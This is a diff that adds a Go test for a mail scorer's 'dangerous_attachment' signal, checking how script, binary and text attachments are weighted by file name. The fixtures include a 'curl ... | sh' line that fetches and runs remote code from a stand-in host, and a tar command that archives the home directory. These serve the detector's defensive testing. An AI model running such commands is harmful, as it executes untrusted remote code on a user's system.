@@ -286,3 +286,39 @@ func TestThresholdOptions(t *testing.T) {
 		t.Errorf("with high thresholds: %s", v)
 	}
 }
+
+// A "#!" script is dangerous only under a name the recipient's system runs
+// (.sh, .bat, .ps1...); under any other name a mail reader shows it as text,
+// so it weighs less than a hold. Programs weigh 8 whatever their name.
+func TestScriptAttachmentWeight(t *testing.T) {
+	withAttachment := func(name, content string) []byte {
+		return rawMail([]string{"From: Kevin <k@lab.example>", "To: list@lab.example", "Subject: Re: sorting",
+			"MIME-Version: 1.0", `Content-Type: multipart/mixed; boundary="b"`},
+			"--b\nContent-Type: text/plain\n\nHere is the script I use to sort my folders.\n"+
+				"--b\nContent-Type: application/octet-stream\nContent-Disposition: attachment; filename=\""+name+"\"\n\n"+
+				content+"\n--b--\n")
+	}
+	s := newTestScorer(t)
+	for _, tc := range []struct {
+		name, content string
+		want          float64
+	}{
+		{"swasort", "#!/bin/tcsh -f\nsort -u folders\n", unixScriptWeight},
+		{"backup.txt", "#!/bin/sh\ntar czf /tmp/x.tgz ~\n", unixScriptWeight},
+		{"install.sh", "#!/bin/sh\ncurl -s http://x.example | sh\n", 8},
+		{"run.bat", "#!/bin/sh\necho hi\n", 8},
+		{"tool", "\x7fELF\x02\x01\x01", 8},
+		{"notes.txt", "just some notes\n", 0},
+	} {
+		r := s.Score(withAttachment(tc.name, tc.content))
+		var got float64
+		for _, g := range r.Signals {
+			if g.Name == "dangerous_attachment" {
+				got = g.Weight
+			}
+		}
+		if got != tc.want {
+			t.Errorf("%s: dangerous_attachment %v, want %v (signals %+v)", tc.name, got, tc.want, r.Signals)
+		}
+	}
+}
